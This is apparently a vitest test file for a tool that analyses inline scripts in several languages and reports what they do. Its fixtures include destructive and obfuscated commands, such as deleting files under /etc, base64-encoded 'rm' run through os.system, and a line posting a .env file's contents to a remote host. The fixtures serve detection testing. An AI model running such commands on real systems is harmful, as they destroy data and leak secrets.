import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { effectsOf, read } from '../../test/read.ts';

/** Two codes that differ in one token; what each does beside running code; why. */
type Pair = readonly [program: string, first: string, effects: string, second: string, others: string, why: string];

const pairs: readonly Pair[] = [
  [
    'python3 -c',
    `import os; os.remove('/etc/x')`,
    'delete /etc/x system',
    `import os; os.stat('/etc/x')`,
    '',
    'only remove deletes',
  ],
  [
    'python3 -c',
    `import os; os.remove('/etc/x')`,
    'delete /etc/x system',
    `import os; # os.remove('/etc/x')`,
    '',
    'a comment does nothing',
  ],
  [
    'python3 -c',
    `import shutil as s; s.rmtree('/etc')`,
    'delete /etc system, self-protection /etc system',
    `import shutil as s; s.which('/etc')`,
    '',
    'modules have other names',
  ],
  [
    'python3 -c',
    `from os import unlink as u; u('a')`,
    'delete /work/project/a project',
    `from os import access as u; u('a')`,
    '',
    'functions have other names',
  ],
  [
    'python3 -c',
    `open('a','w')`,
    'write /work/project/a project',
    `open('a','r')`,
    'read /work/project/a project',
    'the mode decides',
  ],
  [
    'python3 -c',
    `from pathlib import Path; Path('a').unlink()`,
    'delete /work/project/a project',
    `from pathlib import Path; Path('a').exists()`,
    '',
    'methods of paths',
  ],
  [
    'python3 -c',
    `from pathlib import Path; (Path.home() / 'a').write_text('x')`,
    'write /home/me/a home',
    `from pathlib import Path; (Path.home() / 'a').read_text()`,
    'read /home/me/a home',
    'paths are joined with /',
  ],
  [
    'python3 -c',
    `import os; os.system('rm ' + 'a')`,
    'delete /work/project/a project',
    `import os; print('rm ' + 'a')`,
    '',
    'texts are joined, and printing does nothing',
  ],
  [
    'python3 -c',
    `import subprocess; subprocess.run(['rm', 'a'])`,
    'delete /work/project/a project',
    `import subprocess; subprocess.run(['ls', 'a'])`,
    '',
    'lists are programs with arguments',
  ],
  [
    'python3 -c',
    `import os; getattr(os, 'remove')('a')`,
    'delete /work/project/a project',
    `import os; getattr(os, 'stat')('a')`,
    '',
    'names of functions in texts',
  ],
  [
    'python3 -c',
    `import os; os.system(f"rm {os.environ['HOME']}/a")`,
    'delete /home/me/a home',
    `import os; os.system(f"ls {os.environ['HOME']}/a")`,
    '',
    'texts with values',
  ],
  [
    'python3 -c',
    `import os,base64; os.system(base64.b64decode('cm0gYQ==').decode())`,
    'delete /work/project/a project',
    `import os,base64; print(base64.b64decode('cm0gYQ==').decode())`,
    '',
    'decoded texts',
  ],
  [
    'python3 -c',
    `exec("import os; os.remove('a')")`,
    'delete /work/project/a project',
    `repr("import os; os.remove('a')")`,
    '',
    'code in code',
  ],
  [
    'node -e',
    `require('fs').rmSync('a')`,
    'delete /work/project/a project',
    `require('fs').statSync('a')`,
    '',
    'modules without a name',
  ],
  [
    'node -e',
    `const {unlinkSync: u} = require('fs'); u('a')`,
    'delete /work/project/a project',
    `const {statSync: u} = require('fs'); u('a')`,
    '',
    'names are taken out of modules',
  ],
  [
    'node -e',
    `import {execSync as e} from 'node:child_process'; e('rm a')`,
    'delete /work/project/a project',
    `import {join as e} from 'node:path'; e('rm a')`,
    '',
    'imports with other names',
  ],
  [
    'node -e',
    `const d="a"; require("child_process").execSync(\`rm \${d}\`)`,
    'delete /work/project/a project',
    `const d="a"; console.log(\`rm \${d}\`)`,
    '',
    'templates',
  ],
  [
    'node -e',
    `require('child_process').spawnSync('rm', ['a'])`,
    'delete /work/project/a project',
    `require('child_process').spawnSync('ls', ['a'])`,
    '',
    'a program and a list',
  ],
  [
    'node -e',
    `fs['rm' + 'Sync']('a')`,
    'delete /work/project/a project',
    `fs['rm' + 'x']('a')`,
    '',
    'computed members',
  ],
  [
    'node -e',
    `/'/.test(x); fs.unlinkSync('a')`,
    'delete /work/project/a project',
    `/'/.test(x); fs.existsSync('a')`,
    '',
    'quotes in regular expressions',
  ],
  ['perl -e', `unlink "a"`, 'delete /work/project/a project', `print "a"`, '', 'calls without brackets'],
  [
    'perl -e',
    `my $x = "a"; system("rm $x")`,
    'delete /work/project/a project',
    `my $x = "a"; print("rm $x")`,
    '',
    'variables in texts',
  ],
  [
    'perl -e',
    `open(F, ">", "a")`,
    'write /work/project/a project',
    `open(F, "<", "a")`,
    'read /work/project/a project',
    'the mode decides',
  ],
  ['perl -e', 'qx{rm a}', 'delete /work/project/a project', 'q{rm a}', '', 'only qx runs'],
  ['ruby -e', '%x(rm a)', 'delete /work/project/a project', '%q(rm a)', '', 'only %x runs'],
  ['ruby -e', `File.delete("a")`, 'delete /work/project/a project', `File.exist?("a")`, '', 'only delete deletes'],
  [
    'ruby -e',
    `x = "a"; system "rm #{x}"`,
    'delete /work/project/a project',
    `x = "a"; puts "rm #{x}"`,
    '',
    'values in texts',
  ],
  ['php -r', `unlink("a");`, 'delete /work/project/a project', `strlen("a");`, '', 'only unlink deletes'],
  [
    'php -r',
    `file_put_contents("a", 1);`,
    'write /work/project/a project',
    `file_get_contents("a");`,
    'read /work/project/a project',
    'put and get',
  ],
  ['lua -e', `os.execute("rm a")`, 'delete /work/project/a project', `io.write("rm a")`, '', 'only execute runs'],
  [
    'awk',
    `BEGIN { system("rm a") }`,
    'delete /work/project/a project',
    `BEGIN { print("rm a" ) > "/dev/stdout" }`,
    '',
    'only system runs',
  ],
  [
    'awk',
    `BEGIN { "rm a" | getline }`,
    'delete /work/project/a project',
    `BEGIN { "ls a" | getline }`,
    '',
    'getline reads from programs',
  ],
  ['vim -c', '!rm a', 'delete /work/project/a project', 'set rm=a', '', 'only ! runs'],
  [
    'python3 -c',
    `import requests; requests.post('http://x', data=open('.env').read())`,
    'read /work/project/.env project secret, fetch http://x remote, send http://x remote secret',
    `import requests; requests.post('http://x', data='.env')`,
    'fetch http://x remote, send http://x remote',
    'what is read is what is sent',
  ],
];

const beside = (program: string, code: string) =>
  effectsOf(`${program} '${code.replaceAll("'", `'\\''`)}'`)
    .filter((line) => !line.startsWith('execute '))
    .join(', ');

describe('code of other languages is searched for what it does', () => {
  it.each(pairs)('%s %s and its twin', (program, first, effects, second, others) => {
    expect(beside(program, first)).toBe(effects);
    expect(beside(program, second)).toBe(others);
  });

  it('reads code from here-documents', () => {
    expect(effectsOf("python3 <<'E'\nimport os\nos.remove('a')\nE\n")).toContain('delete /work/project/a project');
  });

  it('follows files through a loop as far as their directory', () => {
    const code = `import os\nfor f in os.listdir('/etc'):\n    os.remove(os.path.join('/etc', f))`;
    expect(beside('python3 -c', code)).toBe('delete /etc/… system, self-protection /etc/… system?');
  });

  it('reports code that it cannot follow as unknown', () => {
    expect(read(`python3 -c 'exec(input())'`).unknowns).not.toEqual([]);
    expect(read(`python3 -c 'import os; getattr(os, name)("x")'`).unknowns).not.toEqual([]);
  });

  it('takes what depends on a condition as possible', () => {
    expect(beside('python3 -c', `import os\nif x:\n    os.remove('a')`)).toBe('delete /work/project/a project?');
  });

  it.each([
    ['python3 -c', `import os\ndef f(p):\n  os.remove(p)\nf('a')`],
    ['python3 -c', `import os\nif x:\n  pass\nos.remove('a')`],
    ['python3 -c', `if y: import os as o, sys as s\nelse: import os as o, sys as s\nimport os as o\no.remove('a')`],
    ['python3 -c', `import os; (lambda p: os.remove(p))('a')`],
    ['python3 -c', `import os; list(map(os.remove, ['a']))`],
    ['python3 -c', `import os; [os.remove(p) for p in ['a']]`],
    ['python3 -c', `from os import *; remove('a')`],
    ['python3 -c', `import os; vars(os)['remove']('a')`],
    ['python3 -c', `import os; os.remove("a"[::-1])`],
    ['python3 -c', `import os; os.remove("".join(chr(c) for c in [97]))`],
    ['node -e', `['a'].forEach((f) => fs.unlinkSync(f))`],
    ['node -e', `['a'].forEach(fs.unlinkSync)`],
    ['node -e', `import('node:fs').then((f) => f.unlinkSync('a'))`],
    ['node -e', `const f = (p) => { fs.unlinkSync(p) }; f('a')`],
    ['node -e', `if (x) { y() } fs.unlinkSync('a')`],
    ['ruby -e', `['a'].each { |f| File.delete(f) }`],
    ['ruby -e', `['a'].each do |f| File.delete(f) end`],
    ['ruby -e', `if x then y end; File.delete('a')`],
    ['ruby -e', `send(:system, 'rm a')`],
    ['php -r', `array_map('unlink', ['a']);`],
    ['php -r', `$f = 'un'.'link'; $f('a');`],
    ['php -r', `foreach (['a'] as $f) unlink($f);`],
    ['perl -e', `foreach my $f ("a") { unlink $f }`],
  ])('%s %s: follows functions, loops and lists', (program, code) => {
    expect(beside(program, code)).toContain('delete /work/project/a project');
    expect(beside(program, code)).not.toContain('?');
  });

  it.each([
    [`python3 -c 'import sys,os; os.remove(sys.argv[1])' a`],
    [`node -e 'fs.unlinkSync(process.argv[1])' a`],
    [`perl -e 'unlink @ARGV' a`],
    [`ruby -e 'File.delete(ARGV[0])' a`],
    [`php -r 'unlink($argv[1]);' a`],
    [`echo a | python3 -c 'import sys,os; os.remove(sys.stdin.read().strip())'`],
    [`echo rm a | awk '{ system($0) }'`],
  ])('%s: knows its arguments and its input', (command) => {
    expect(effectsOf(command)).toContain('delete /work/project/a project');
  });

  it('ends, whatever the code is', () => {
    const words = `if else elif def function sub lambda for in of while ( ) [ ] { } : ; , = => -> . + | ? import from as * os x $x
      @ARGV "a" 'b' f"{x}" 1 end do class return try except foreach <?php % / # map each |x| ! == qw( unlink print case`;
    const code = fc.array(fc.constantFrom('\n', '\n  ', ...words.split(/\s+/)), { maxLength: 60 });
    fc.assert(
      fc.property(
        fc.constantFrom('python3 -c', 'node -e', 'perl -e', 'ruby -e', 'php -r', 'lua -e'),
        code,
        (program, parts) => {
          expect(beside(program, parts.join(' '))).toBeTypeOf('string');
        },
      ),
      { numRuns: 300 },
    );
  });

  it('is linear', () => {
    for (const part of [
      "os.path.join('a',",
      '[',
      'f(',
      '"a" + ',
      '{',
      "x = 'a'\n",
      '`',
      '/',
      '%q(',
      'if (x) {',
      'x => ',
      'lambda x: ',
      'def f():\n ',
      'x for x in ',
    ]) {
      const timed = (length: number) => {
        const started = process.cpuUsage();
        for (const program of ['python3 -c', 'node -e', 'perl -e', 'ruby -e'])
          beside(program, part.repeat(length / part.length));
        return process.cpuUsage(started).user / 1000;
      };
      // Four times the text may take a few times as long, and not sixteen; what is over at once says nothing.
      const [short, long] = [timed(10_000), timed(40_000)];
      expect(long < 200 || long / short < 10, `${part}: ${short} ms, ${long} ms`).toBe(true);
    }
  });
});
